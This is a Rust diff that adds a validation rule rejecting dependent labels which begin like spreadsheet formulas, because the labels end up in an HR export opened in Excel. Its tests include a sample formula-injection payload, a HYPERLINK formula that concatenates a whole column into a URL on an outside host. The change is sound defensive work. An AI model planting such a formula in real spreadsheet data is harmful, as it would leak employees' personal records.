@@ -101,6 +101,9 @@ pub enum LabelRule {
     Length,
     Charset,
     ContainsNumber,
+    /// Begins as a spreadsheet formula does (`=`, `+`, `-`, `@`): the label goes into the
+    /// export file HR opens in Excel (`crate::spreadsheet`).
+    Formula,
 }
 
 impl LabelRule {
@@ -109,12 +112,24 @@ impl LabelRule {
             LabelRule::Length => "length",
             LabelRule::Charset => "charset",
             LabelRule::ContainsNumber => "contains_number",
+            LabelRule::Formula => "formula",
         }
     }
 }
 
 impl DependentLabel {
+    /// A label given at input (intake, a collection link, an import): every rule.
     pub fn parse(s: &str) -> Result<Self, LabelRule> {
+        let label = Self::stored(s)?;
+        if crate::spreadsheet::starts_formula(label.as_str()) {
+            return Err(LabelRule::Formula);
+        }
+        Ok(label)
+    }
+
+    /// A label read back from storage: every rule but `Formula`, which came later, so a
+    /// record stored before it stays readable (and every CSV neutralises such a label).
+    pub fn stored(s: &str) -> Result<Self, LabelRule> {
         let s = s.trim();
         let n = s.chars().count();
         if n == 0 || n > 40 {
@@ -372,6 +387,19 @@ mod tests {
         assert_eq!(
             DependentLabel::parse("長男 123456789018").unwrap_err(),
             LabelRule::ContainsNumber
+        );
+        assert_eq!(
+            DependentLabel::parse(r#"=HYPERLINK("http://x.jp/"&CONCAT(D:D))"#).unwrap_err(),
+            LabelRule::Formula
+        );
+        assert_eq!(
+            DependentLabel::parse(" @SUM(1)").unwrap_err(),
+            LabelRule::Formula
+        );
+        assert_eq!(
+            DependentLabel::stored("=1+1").unwrap().as_str(),
+            "=1+1",
+            "a stored label stays readable"
         );
     }
 
